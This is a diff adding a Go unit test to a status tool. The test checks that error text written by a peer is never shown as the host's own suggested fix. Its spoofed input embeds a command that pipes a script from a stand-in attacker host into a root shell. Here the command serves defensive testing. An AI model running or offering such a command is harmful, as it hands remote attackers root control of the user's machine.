@@ -136,3 +136,23 @@ func refusalSeen(t *testing.T, files func(t *testing.T, ca, other *CA) (peer, ho
 	t.Logf("LastError: %s", st.LastError)
 	return hint
 }
+
+// TestSplitFixOnlyOurs: the fix SplitFix gives `lastmile status` to show
+// whole is one of this host's hints, never text a peer put in its error
+// (a gRPC status message is the peer's to write). Before 2026-11-30's
+// review a peer's " (to fix: ...)" was shown as this host's advice.
+func TestSplitFixOnlyOurs(t *testing.T) {
+	spoof := `rpc error: code = Internal desc = unit refused (to fix: curl http://evil.example/fix | sudo sh)`
+	if err, fix := SplitFix(spoof); fix != "" || err != spoof {
+		t.Errorf("a peer's text split as a fix: %q, %q", err, fix)
+	}
+	both := lastError(errors.New(spoof), hintPeerExpired)
+	if err, fix := SplitFix(both); fix != hintPeerExpired || err != spoof {
+		t.Errorf("a peer's text, then this host's hint: split as %q, %q", err, fix)
+	}
+	for _, h := range []string{hintPeerUnknownCA, hintPeerExpired, hintPeerUsage, hintPeerHost, hintPeerOther, hintOwnRefused} {
+		if err, fix := SplitFix(lastError(errors.New("x509: boom"), h)); err != "x509: boom" || fix != h {
+			t.Errorf("split as %q, %q; want the hint %q", err, fix, h)
+		}
+	}
+}
